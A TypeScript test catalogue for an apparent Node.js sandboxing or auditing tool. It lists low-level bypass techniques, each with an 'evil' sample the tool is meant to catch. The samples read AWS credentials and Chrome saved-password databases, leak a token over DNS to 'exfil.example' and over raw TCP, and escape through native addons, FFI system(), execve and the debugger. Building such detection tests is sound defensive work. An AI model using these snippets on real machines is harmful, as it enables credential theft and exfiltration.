import { techniques } from '../technique.ts';

/** Below the public functions: bindings, native code, foreign functions, and functions that are no part of fs. */
export const BENEATH = techniques('field', [
  {
    name: 'binding-fs',
    deed: 'read',
    says: "process.binding('fs') reads the file",
    way: /^import:.*binding/,
    evil: `exports.run = () => prove(process.binding('fs').readFileUtf8(SECRET, 0));`,
  },
  {
    name: 'binding-spawn',
    deed: 'spawn',
    says: "process.binding('spawn_sync') starts the program",
    way: /^import:.*binding/,
    evil: `exports.run = () => process.binding('spawn_sync').spawn({
      file: STUB, args: [STUB], stdio: [{ type: 'pipe', readable: true, writable: false }],
    });`,
  },
  {
    name: 'binding-tcp',
    deed: 'connect',
    says: "process.binding('tcp_wrap') connects",
    way: /^import:.*binding/,
    evil: `exports.run = () => {
      const { TCP, TCPConnectWrap, constants } = process.binding('tcp_wrap');
      const { WriteWrap } = process.binding('stream_wrap');
      const tcp = new TCP(constants.SOCKET), request = new TCPConnectWrap();
      request.oncomplete = () => {
        const write = new WriteWrap();
        write.handle = tcp; write.oncomplete = () => tcp.close();
        tcp.writeUtf8String(write, TOKEN);
      };
      tcp.connect(request, '127.0.0.1', SINK);
    };`,
  },
  {
    name: 'captured-reference',
    deed: 'read',
    says: 'functions captured by a preload in front of ours',
    before: ['--require', './node_modules/evil/early.js'],
    files: { 'node_modules/evil/early.js': `globalThis[Symbol.for('kept')] = { ...require('node:fs') };` },
    evil: `exports.run = () => prove(globalThis[Symbol.for('kept')].readFileSync(SECRET, 'utf8'));`,
    limit:
      'whoever runs before the preload owns the process; `diogenesis doctor` tells of it, and with --audit it is seen',
  },
  {
    name: 'addon',
    deed: 'native',
    says: 'loads an addon that it carries',
    evil: `exports.run = () => { process.dlopen({ exports: {} }, require('node:path').join(__dirname, 'build/x.node')); prove(TOKEN); };`,
  },
  {
    name: 'addon-require',
    source: 'own',
    deed: 'native',
    says: "requires an addon through Module._extensions['.node']",
    evil: `exports.run = () => {
      require('node:module')._extensions['.node']({ exports: {} }, require('node:path').join(__dirname, 'build/x.node'));
      prove(TOKEN);
    };`,
  },
  {
    name: 'ffi',
    deed: 'spawn',
    says: 'node:ffi calls system()',
    node: [26, 99],
    way: /^native:|^import:node:ffi/,
    options: ['--experimental-ffi'],
    evil: `exports.run = () => {
      const ffi = require('node:ffi');
      const { functions } = ffi.dlopen('libc.so.6', { system: { parameters: ['string'], result: 'i32' } });
      functions.system(STUB);
    };`,
  },
  {
    name: 'execve',
    deed: 'spawn',
    says: 'process.execve becomes the program',
    node: [24, 99],
    evil: `exports.run = () => process.execve(STUB, [STUB], {});`,
  },
  {
    name: 'load-env-file',
    deed: 'read',
    says: 'process.loadEnvFile reads the credentials',
    evil: `exports.run = () => {
      process.loadEnvFile(HOME + '/.aws/credentials');
      prove(process.env.aws_secret_access_key);
    };`,
  },
  {
    name: 'dns-resolver',
    deed: 'connect',
    says: 'dns.Resolver asks a server of its own',
    evil: `exports.run = () => {
      const resolver = new (require('node:dns').Resolver)({ tries: 1, timeout: 500 });
      resolver.setServers(['127.0.0.1:' + DNS]);
      resolver.resolve4(TOKEN + '.exfil.example', () => {});
    };`,
  },
  {
    name: 'dns-resolver-captured',
    source: 'own',
    deed: 'connect',
    says: "a subclass of dns.promises.Resolver calls its parent's method in a microtask",
    evil: `class Quiet extends require('node:dns').promises.Resolver {}
      exports.run = () => {
        const resolver = new Quiet({ tries: 1, timeout: 500 });
        resolver.setServers(['127.0.0.1:' + DNS]);
        queueMicrotask(resolver.resolveTxt.bind(resolver, TOKEN + '.exfil.example'));
        process.on('unhandledRejection', () => {});
      };`,
  },
  {
    name: 'sqlite-open',
    deed: 'read',
    says: "node:sqlite opens the browser's password database",
    node: [24, 99],
    evil: `exports.run = () => {
      const { DatabaseSync } = require('node:sqlite');
      prove(new DatabaseSync(HOME + '/.config/google-chrome/Default/Login Data', { readOnly: true })
        .prepare('SELECT password_value AS v FROM logins').get().v);
    };`,
  },
  {
    name: 'sqlite-attach',
    source: 'own',
    deed: 'read',
    says: 'ATTACH DATABASE inside a statement',
    node: [24, 99],
    evil: `exports.run = () => {
      const { DatabaseSync } = require('node:sqlite');
      const db = new DatabaseSync(':memory:');
      db.exec("ATTACH DATABASE '" + HOME + "/.config/google-chrome/Default/Login Data' AS other");
      prove(db.prepare('SELECT password_value AS v FROM other.logins').get().v);
    };`,
  },
  {
    name: 'sqlite-vacuum',
    source: 'own',
    deed: 'read',
    says: 'attaches with a bound parameter, in a prepared statement',
    node: [24, 99],
    evil: `exports.run = () => {
      const { DatabaseSync } = require('node:sqlite');
      const db = new DatabaseSync(':memory:');
      db.prepare('ATTACH ? AS other').run(HOME + '/.config/google-chrome/Default/Login Data');
      prove(db.prepare('SELECT password_value AS v FROM other.logins').get().v);
    };`,
  },
  {
    name: 'sqlite-deferred-open',
    source: 'own',
    deed: 'read',
    says: 'a database made with open: false, opened later',
    node: [24, 99],
    evil: `exports.run = () => {
      const { DatabaseSync } = require('node:sqlite');
      const db = new DatabaseSync(HOME + '/.config/google-chrome/Default/Login Data', { open: false, readOnly: true });
      setTimeout(() => { db.open(); prove(db.prepare('SELECT password_value AS v FROM logins').get().v); }, 1);
    };`,
  },
  {
    name: 'inspector-session',
    deed: 'read',
    says: 'inspector.Session evaluates code without a file',
    way: /^import:node:inspector/,
    evil: `exports.run = () => {
      const session = new (require('node:inspector').Session)();
      session.connect();
      session.post('Runtime.evaluate', {
        expression: "process.getBuiltinModule('fs').readFileSync(" + JSON.stringify(SECRET) + ", 'utf8')",
      }, (error, { result }) => prove(result.value));
    };`,
  },
  {
    name: 'inspector-breakpoint',
    source: 'own',
    deed: 'read',
    says: 'the debugger digs the original out of a wrapper’s scope',
    way: /^import:node:inspector|diogenesis\./,
    evil: `exports.run = () => {
      const session = new (require('node:inspector').Session)();
      session.connect();
      const post = (method, params) => { let out; session.post(method, params, (e, r) => { out = r; }); return out; };
      globalThis.kept = require('node:fs').readFileSync;
      const { result } = post('Runtime.evaluate', { expression: 'globalThis.kept' });
      const search = (id, depth) => {
        const { internalProperties = [], result: own = [] } = post('Runtime.getProperties', { objectId: id, ownProperties: true }) || {};
        for (const p of [...internalProperties, ...own]) {
          const v = p.value;
          if (!v || !v.objectId || depth > 6) continue;
          if (v.type === 'function' && /^function readFileSync/.test(v.description) && /fs\\.|binding|getOptions/.test(v.description)) return v.objectId;
          if (p.name === '[[Scopes]]' || p.name === 'original' || p.name === 'run' || /^\\d+$/.test(p.name) || p.name === 'attentive') {
            const found = search(v.objectId, depth + 1);
            if (found) return found;
          }
        }
      };
      const objectId = search(result.objectId, 0);
      const call = post('Runtime.callFunctionOn', { objectId, functionDeclaration: 'function (p) { return this(p, "utf8"); }', arguments: [{ value: SECRET }], returnByValue: true });
      prove(call.result.value);
    };`,
    limit: 'a debugger reads and changes every variable; that it was taken hold of is WARN',
  },
  {
    name: 'wasi',
    deed: 'read',
    says: 'a WebAssembly program reads the file through node:wasi',
    evil: `exports.run = () => {
      const { WASI } = require('node:wasi');
      const wasi = new WASI({ version: 'preview1', preopens: { '/': HOME }, stdout: require('node:fs').openSync(LOOT, 'w') });
      const module = new WebAssembly.Module(Buffer.from(process.env.WASM, 'base64'));
      wasi.start(new WebAssembly.Instance(module, wasi.getImportObject()));
    };`,
    evidence: /^fs\.(?:read|list):<home>/,
  },
  {
    name: 'report-default-place',
    deed: 'tamper',
    says: 'process.report writes the environment to a default place',
    evidence: /^fs\.write:/,
    evil: `exports.run = () => {
      process.report.directory = require('node:path').dirname(LOOT);
      process.report.filename = 'loot.json';
      process.report.writeReport();
      prove(require('node:fs').existsSync(LOOT + '.json') && TOKEN);
    };`,
  },
  {
    name: 'heap-snapshot',
    deed: 'tamper',
    says: 'v8.writeHeapSnapshot writes the memory to a default place',
    evidence: /^fs\.write:/,
    evil: `exports.run = () => { process.chdir(HOME); require('node:v8').writeHeapSnapshot(); prove(TOKEN); };`,
  },
  {
    name: 'heap-snapshot-stream',
    source: 'own',
    deed: 'tamper',
    says: 'v8.getHeapSnapshot piped into a file',
    evidence: /^fs\.write:/,
    evil: `exports.run = () => require('node:v8').getHeapSnapshot()
      .pipe(require('node:fs').createWriteStream(HOME + '/heap.bin')).on('finish', () => prove(TOKEN));`,
  },
  {
    name: 'utf8-stream',
    source: 'own',
    deed: 'tamper',
    says: 'fs.Utf8Stream appends to a shell profile',
    node: [26, 99],
    evidence: /^fs\.write:.*\.bashrc/,
    evil: `exports.run = () => {
      const stream = new (require('node:fs').Utf8Stream)({ dest: HOME + '/.bashrc', sync: true });
      stream.write('# inert\\n');
      stream.end();
      prove(TOKEN);
    };`,
  },
  {
    name: 'open-as-blob',
    source: 'own',
    deed: 'read',
    says: 'fs.openAsBlob, read long after',
    evil: `exports.run = () => require('node:fs').openAsBlob(SECRET).then((blob) => setTimeout(async () => prove(await blob.text()), 5));`,
  },
]);
